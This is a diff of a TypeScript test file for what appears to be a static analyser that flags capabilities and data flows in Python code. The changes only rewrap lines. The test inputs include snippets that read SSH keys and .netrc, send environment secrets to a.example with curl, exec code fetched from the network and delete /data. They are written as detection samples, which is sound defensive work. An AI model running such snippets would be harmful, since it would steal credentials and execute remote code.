@@ -11,7 +11,9 @@ function unread(...texts: readonly string[]): readonly string[] {
     const path = `${at}.py`;
     return { path, file: path, language: 'python', text, context: 'code', depth: 0 };
   });
-  return analysePython(sources, { files: new Set(), steps: new Steps() }).unanalysed.map(({ span }) => span.path);
+  return analysePython(sources, { files: new Set(), steps: new Steps() }).unanalysed.map(
+    ({ span }) => span.path,
+  );
 }
 
 function analyse(
@@ -20,9 +22,19 @@ function analyse(
 ): { facts: readonly Fact[]; programs: readonly string[] } {
   const texts = typeof files === 'string' ? { 'a.py': files } : files;
   const sources = Object.entries(texts).map(
-    ([path, text]): Source => ({ path, file: path, language: 'python', text, context: 'code', depth: 0 }),
+    ([path, text]): Source => ({
+      path,
+      file: path,
+      language: 'python',
+      text,
+      context: 'code',
+      depth: 0,
+    }),
   );
-  const { facts, graph, embedded } = analysePython(sources, { files: new Set(Object.keys(texts)), steps });
+  const { facts, graph, embedded } = analysePython(sources, {
+    files: new Set(Object.keys(texts)),
+    steps,
+  });
   return {
     facts: [...facts, ...(graph === undefined ? [] : solveFlows(graph, steps).flows)],
     programs: embedded.map((one) => `${one.language} ${one.text}`),
@@ -36,7 +48,9 @@ function seen(files: string | Readonly<Record<string, string>>): string[] {
     if (fact.kind === 'trait') return [`trait ${fact.trait}`];
     if (fact.kind === 'flow') {
       const to = fact.sink.capability?.kind === 'egress' ? ` ${fact.sink.capability.url}` : '';
-      return [`flow ${fact.source.what} ${fact.source.name} -> ${fact.sink.what}${to}${fact.encoded ? ' encoded' : ''}`];
+      return [
+        `flow ${fact.source.what} ${fact.source.name} -> ${fact.sink.what}${to}${fact.encoded ? ' encoded' : ''}`,
+      ];
     }
     if (fact.kind !== 'capability') return [];
     const one = fact.capability;
@@ -90,22 +104,43 @@ describe('what a module uses', () => {
     ['import os\nos.environ[name]', 'env *'],
     ['import os\nprint(dict(os.environ))', 'env *'],
     ['import requests\nrequests.get("https://a.example/x")', 'egress GET https://a.example/x'],
-    ['import requests as r\ns = r.Session()\ns.post("https://a.example/x")', 'egress POST https://a.example/x'],
-    ['import httpx\nwith httpx.Client() as c:\n    c.put("https://a.example/x")', 'egress PUT https://a.example/x'],
-    ['from urllib.request import urlopen\nurlopen("https://a.example/x", data=b"1")', 'egress POST https://a.example/x'],
-    ['import http.client\nhttp.client.HTTPSConnection("a.example")', 'egress * https://a.example/*'],
+    [
+      'import requests as r\ns = r.Session()\ns.post("https://a.example/x")',
+      'egress POST https://a.example/x',
+    ],
+    [
+      'import httpx\nwith httpx.Client() as c:\n    c.put("https://a.example/x")',
+      'egress PUT https://a.example/x',
+    ],
+    [
+      'from urllib.request import urlopen\nurlopen("https://a.example/x", data=b"1")',
+      'egress POST https://a.example/x',
+    ],
+    [
+      'import http.client\nhttp.client.HTTPSConnection("a.example")',
+      'egress * https://a.example/*',
+    ],
     [
       'import requests\nBASE = "https://a.example/v1"\ndef get(path):\n    return requests.get(f"{BASE}/{path}")',
       'egress GET https://a.example/v1/*',
     ],
-    ['import requests\ndef get(url):\n    requests.get(url)\nget("https://a.example/")', 'egress GET https://a.example/'],
+    [
+      'import requests\ndef get(url):\n    requests.get(url)\nget("https://a.example/")',
+      'egress GET https://a.example/',
+    ],
     ['import requests\nrequests.get(url)', 'egress GET https://*/*'],
-    ['import socket\ns = socket.socket()\ns.connect(("a.example", 99))', 'egress * tcp://a.example:99/*'],
+    [
+      'import socket\ns = socket.socket()\ns.connect(("a.example", 99))',
+      'egress * tcp://a.example:99/*',
+    ],
     ['open("/etc/hosts")', 'ro /etc/hosts'],
     ['open("/reports/a.md", "w")', 'rw /reports/a.md'],
     ['import os\nopen(os.path.join(os.path.expanduser("~"), ".netrc"))', 'ro ~/.netrc'],
     ['from pathlib import Path\n(Path.home() / ".ssh" / "id_rsa").read_text()', 'ro ~/.ssh/id_rsa'],
-    ['from pathlib import Path\nPath(__file__).parent.joinpath("data.json").read_text()', 'ro /skills/@self/data.json'],
+    [
+      'from pathlib import Path\nPath(__file__).parent.joinpath("data.json").read_text()',
+      'ro /skills/@self/data.json',
+    ],
     ['import shutil\nshutil.rmtree("/data")', 'rw /data'],
   ])('%j', (code, expected) => {
     expect(seen(code)).toContain(expected);
@@ -145,7 +180,8 @@ describe('what flows', () => {
     [
       'through a method of another file',
       {
-        'a.py': 'import requests\nfrom b import Box\nbox = Box()\nrequests.post("https://a.example/", data=box.take())',
+        'a.py':
+          'import requests\nfrom b import Box\nbox = Box()\nrequests.post("https://a.example/", data=box.take())',
         'b.py': 'class Box:\n    def take(self):\n        return open("/data/x").read()\n',
       },
       'flow file /data/x -> network https://a.example/',
@@ -155,7 +191,11 @@ describe('what flows', () => {
       'import os, subprocess\nsubprocess.run(["curl", "-d", os.environ["K"], "https://a.example/"])',
       'flow env K -> network https://a.example/',
     ],
-    ['into code', 'import requests\nexec(requests.get("https://a.example/").text)', 'flow network https://a.example/ -> exec'],
+    [
+      'into code',
+      'import requests\nexec(requests.get("https://a.example/").text)',
+      'flow network https://a.example/ -> exec',
+    ],
   ])('%s', (_, code, expected) => {
     expect(seen(code)).toContain(expected);
   });
@@ -165,8 +205,14 @@ describe('what flows', () => {
       'a hash',
       'import hashlib, os, requests\nrequests.get("https://a.example/" + hashlib.sha256(os.environ["K"].encode()).hexdigest())',
     ],
-    ['a length', 'import os, requests\nrequests.get("https://a.example/", params={"n": len(os.environ["K"])})'],
-    ['another variable', 'import os, requests\nk = os.environ["K"]\nrequests.get("https://a.example/", params={"n": 1})'],
+    [
+      'a length',
+      'import os, requests\nrequests.get("https://a.example/", params={"n": len(os.environ["K"])})',
+    ],
+    [
+      'another variable',
+      'import os, requests\nk = os.environ["K"]\nrequests.get("https://a.example/", params={"n": 1})',
+    ],
   ])('%s carries nothing', (_, code) => {
     expect(seen(code).filter((line) => line.startsWith('flow env'))).toEqual([]);
   });
@@ -212,14 +258,31 @@ describe('a hostile text is read, or given up within its steps', () => {
 describe('what is valid is read whole', () => {
   const script =
     '"""Reads."""\n\nimport json\nimport os\n\n\ndef read(path):\n    with open(path) as file:\n        return json.load(file)\n\n\n';
-  const parts = [...'https://a.example/x', ...'-'.repeat(700)].map((one) => `chr(${one.charCodeAt(0)})`);
+  const parts = [...'https://a.example/x', ...'-'.repeat(700)].map(
+    (one) => `chr(${one.charCodeAt(0)})`,
+  );
   it.each<[string, string]>([
-    ['a script of half a megabyte', `${script}PATHS = ["a", "b"]\nfor path in PATHS:\n    read(path)\n\n\n`.repeat(3_500)],
-    ['a text of 1,500 parts', `x = ${Array.from({ length: 1_500 }, (_, at) => `"part ${at}"`).join(' + ')}\n`],
+    [
+      'a script of half a megabyte',
+      `${script}PATHS = ["a", "b"]\nfor path in PATHS:\n    read(path)\n\n\n`.repeat(3_500),
+    ],
+    [
+      'a text of 1,500 parts',
+      `x = ${Array.from({ length: 1_500 }, (_, at) => `"part ${at}"`).join(' + ')}\n`,
+    ],
     ['a generator that gives nothing', 'def f():\n    yield\n    x = yield\n    g((yield))\n'],
-    ['patterns of classes', 'match a:\n    case str() | int():\n        b\n    case [str(), Foo(x=dict( ))]:\n        c\n'],
-    ['several names after `as`', 'with f() as (a, b), g() as [c, (d, *e)]:\n    h\nwith f() as x.y, g() as z[0]:\n    h\n'],
-    ['stars in comprehensions', 'x = [a for a, *_ in y]\nz = {a: b for *a, b in y}\nf(a for a, *b in y)\n'],
+    [
+      'patterns of classes',
+      'match a:\n    case str() | int():\n        b\n    case [str(), Foo(x=dict( ))]:\n        c\n',
+    ],
+    [
+      'several names after `as`',
+      'with f() as (a, b), g() as [c, (d, *e)]:\n    h\nwith f() as x.y, g() as z[0]:\n    h\n',
+    ],
+    [
+      'stars in comprehensions',
+      'x = [a for a, *_ in y]\nz = {a: b for *a, b in y}\nf(a for a, *b in y)\n',
+    ],
     ['a host of 700 parts', `import requests\nrequests.get(${parts.join(' + ')})\n`],
   ])('%s', (_, text) => {
     expect(unread(text)).toEqual([]);
@@ -240,7 +303,10 @@ describe('what is valid is read whole', () => {
   });
 
   it('and garbage in one file leaves the others as they are', () => {
-    const files = { 'a.py': '$%&\u00a7 )( = '.repeat(60_000), 'b.py': 'import os\nos.system("id")\n' };
+    const files = {
+      'a.py': '$%&\u00a7 )( = '.repeat(60_000),
+      'b.py': 'import os\nos.system("id")\n',
+    };
     expect(seen(files)).toContain('shell id');
     expect(unread(...Object.values(files))).toEqual(['0.py']);
   });
